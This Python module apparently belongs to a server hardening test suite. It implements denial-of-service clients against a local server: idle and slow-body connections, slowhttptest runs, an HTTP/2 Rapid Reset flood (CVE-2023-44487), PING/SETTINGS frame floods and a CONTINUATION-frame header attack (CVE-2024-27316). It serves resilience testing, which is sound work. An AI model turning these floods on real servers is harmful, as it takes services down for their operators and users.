"""Clients that hold a server up: idle, slow, or restless ones. Each runs in threads or processes of its own."""
import contextlib
import os
import pathlib
import resource
import select
import socket
import subprocess
import threading
import time
from collections.abc import Iterator

from .errors import HardeningError
from .http2 import CANCEL, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, Connection, frame
from .http2 import headers_block
from .server import Token

#: Descriptors that a process needs beside its connections.
SPARE_DESCRIPTORS = 512
#: Attackers yield to the server and to who is measured: on the same machine they would otherwise be the disturbance.
NICENESS = 15


def raise_descriptor_limit(wanted: int) -> int:
    """Allows this process, and the servers it starts, as many descriptors as possible. Returns the new limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    limit = max(soft, min(wanted, hard if hard != resource.RLIM_INFINITY else wanted))
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
    return limit


class Tally:
    """What an attack has seen; for the report."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.counts: dict[str, int] = {}

    def add(self, name: str, count: int = 1) -> None:
        with self._lock:
            self.counts[name] = self.counts.get(name, 0) + count

    def __str__(self) -> str:
        return ", ".join(f"{name} {count:,}" for name, count in self.counts.items()) or "nothing"


@contextlib.contextmanager
def idle(port: int, count: int, tally: Tally) -> Iterator[None]:
    """Connections that never say anything."""
    sockets: list[socket.socket] = []
    try:
        for _ in range(count):
            sockets.append(socket.create_connection(("127.0.0.1", port), timeout=10))
        tally.add("connected", len(sockets))
        yield
        tally.add("closed by the server", sum(_is_closed(one) for one in sockets))
    finally:
        for one in sockets:
            one.close()


def _is_closed(one: socket.socket) -> bool:
    readable = select.poll()
    readable.register(one, select.POLLIN)
    return bool(readable.poll(0))


class _Repeating(threading.Thread):
    """Calls an action until it is stopped."""

    def __init__(self, action):
        super().__init__(daemon=True)
        self._action = action
        self._is_over = threading.Event()

    def run(self) -> None:
        os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), NICENESS)
        while not self._is_over.is_set():
            try:
                self._action()
            except OSError:
                # The server has closed the connection, which is its right.
                time.sleep(0.01)

    def stop(self) -> None:
        self._is_over.set()
        self.join(30)


@contextlib.contextmanager
def repeating(*actions) -> Iterator[None]:
    threads = [_Repeating(action) for action in actions]
    try:
        for thread in threads:
            thread.start()
        yield
    finally:
        for thread in threads:
            thread.stop()


@contextlib.contextmanager
def dribble(port: int, count: int, token: Token, path: str, tally: Tally) -> Iterator[None]:
    """Bodies that come a byte at a time, on connections whose heads are in order."""
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token.text}\r\n"
            f"X-TensorWasm-Tenant: {token.tenant}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n")
    sockets = []
    for _ in range(count):
        one = socket.create_connection(("127.0.0.1", port), timeout=10)
        one.sendall(head.encode())
        sockets.append(one)
    tally.add("connected", len(sockets))

    def action() -> None:
        for one in list(sockets):
            try:
                one.send(b" ", socket.MSG_DONTWAIT)
            except OSError:
                tally.add("closed by the server")
                sockets.remove(one)
                one.close()
        time.sleep(1)

    with repeating(action):
        yield
    for one in sockets:
        one.close()


@contextlib.contextmanager
def slow_http(program: pathlib.Path, mode: str, url: str, count: int, folder: pathlib.Path) -> Iterator[None]:
    """`slowhttptest`: `-H` sends heads slowly, `-B` bodies, `-X` reads answers slowly."""
    if not program.exists():
        raise HardeningError(f"{program} is missing; `scripts/bootstrap --hardening` fetches it")
    command = ["nice", "-n", str(NICENESS), str(program), mode, "-c", str(count), "-r", "1000", "-i", "5",
               "-l", "600", "-p", "3", "-u", url]
    if mode == "-X":
        command += ["-w", "1", "-y", "2", "-n", "5", "-z", "1"]
    with (folder / f"slowhttptest{mode}.log").open("wb") as output:
        process = subprocess.Popen(
            command, stdout=output, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, cwd=folder)
        try:
            yield
            if process.poll() not in (None, 0):
                raise HardeningError(f"slowhttptest ended with status {process.returncode}")
        finally:
            process.terminate()
            process.wait()


def rapid_reset(port: int, token: Token, path: str, tally: Tally):
    """Requests over HTTP/2 that are cancelled as soon as they are sent (CVE-2023-44487)."""
    block = headers_block([
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"),
        ("authorization", f"Bearer {token.text}"), ("x-tensorwasm-tenant", str(token.tenant))])

    def action() -> None:
        connection = Connection(port)
        try:
            for first in range(1, 200_001, 200):
                burst = b"".join(
                    frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(first, first + 200, 2))
                connection.socket.sendall(burst)
                tally.add("resets", 100)
        finally:
            _say_end(connection, tally)

    return action


def frame_flood(port: int, kind: int, payload: bytes, tally: Tally):
    """Control frames that each want an answer."""
    burst = frame(kind, 0, 0, payload) * 500

    def action() -> None:
        connection = Connection(port)
        try:
            for _ in range(2_000):
                connection.socket.sendall(burst)
                tally.add("frames", 500)
        finally:
            _say_end(connection, tally)

    return action


PING_PAYLOAD = (PING, bytes(8))
SETTINGS_PAYLOAD = (SETTINGS, b"")


def endless_headers(port: int, tally: Tally):
    """A list of headers that never ends, in CONTINUATION frames (CVE-2024-27316)."""
    piece = headers_block([("x-filler", "y" * 4_000)])

    def action() -> None:
        connection = Connection(port)
        try:
            connection.socket.sendall(frame(HEADERS, 0, 1, piece))
            for _ in range(10_000):
                connection.socket.sendall(frame(9, 0, 1, piece))
                tally.add("frames")
        finally:
            _say_end(connection, tally)

    return action


def _say_end(connection: Connection, tally: Tally) -> None:
    """How the server has ended the connection."""
    connection.socket.settimeout(1)
    try:
        while (received := connection.read_frame()) is not None:
            if received[0] == GOAWAY:
                tally.add(f"GOAWAY {int.from_bytes(received[3][4:8], 'big')}")
        tally.add("connections closed")
    except OSError:
        tally.add("connections reset or silent")
    finally:
        connection.close()
